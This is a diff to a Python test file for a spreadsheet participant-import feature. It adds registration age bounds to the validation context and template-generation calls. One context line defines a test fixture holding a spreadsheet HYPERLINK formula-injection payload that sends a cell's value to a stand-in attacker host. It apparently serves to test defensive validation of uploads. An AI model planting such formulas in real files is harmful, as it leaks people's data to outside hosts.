@@ -23,12 +23,16 @@ from backoffice.importing import (
     template_xlsx,
     validate_rows,
 )
+from backoffice.rules.eligibility import AgeBounds
 
 LEVELS = frozenset([1_000_000, 1_500_000, 2_000_000, 20_700_000])
+#: The registration ages of the reference data (migration 0013).
+AGES = AgeBounds(15, 65)
 CTX = ValidationContext(
     registration_date=date(2025, 1, 15),
     known_regencies=frozenset({"3604", "3673"}),
     income_levels=LEVELS,
+    registration_ages=AGES,
 )
 HYPERLINK = '=HYPERLINK("http://evil.invalid/?"&A2,"Klik")'
 UPLOAD = (
@@ -205,7 +209,7 @@ def test_fixed_error_report_can_be_uploaded_again() -> None:
 
 
 def test_template_has_the_nine_headers_in_order_and_text_columns() -> None:
-    workbook = openpyxl.load_workbook(io.BytesIO(template_xlsx(LEVELS)))
+    workbook = openpyxl.load_workbook(io.BytesIO(template_xlsx(LEVELS, ages=AGES)))
     sheet = workbook.worksheets[0]
     assert sheet.title == "Peserta"
     assert [cell.value for cell in sheet[1]] == [
@@ -226,7 +230,9 @@ def test_template_has_the_nine_headers_in_order_and_text_columns() -> None:
 
 
 def test_template_petunjuk_sheet_lists_formats_and_income_levels() -> None:
-    workbook = openpyxl.load_workbook(io.BytesIO(template_xlsx([2_000_000, 1_000_000, 20_700_000])))
+    workbook = openpyxl.load_workbook(
+        io.BytesIO(template_xlsx([2_000_000, 1_000_000, 20_700_000], ages=AGES))
+    )
     guide = workbook["Petunjuk"]
     text = "\n".join(str(row[0]) for row in guide.iter_rows(values_only=True) if row[0] is not None)
     assert "dd/mm/yyyy" in text
@@ -238,6 +244,6 @@ def test_template_petunjuk_sheet_lists_formats_and_income_levels() -> None:
 
 def test_template_headers_are_recognised_by_the_reader() -> None:
     with pytest.raises(FileRefused) as caught:
-        read_table(template_xlsx(LEVELS), "template.xlsx")
+        read_table(template_xlsx(LEVELS, ages=AGES), "template.xlsx")
     # Every column is found; only the data is missing.
     assert caught.value.code == "no_data"
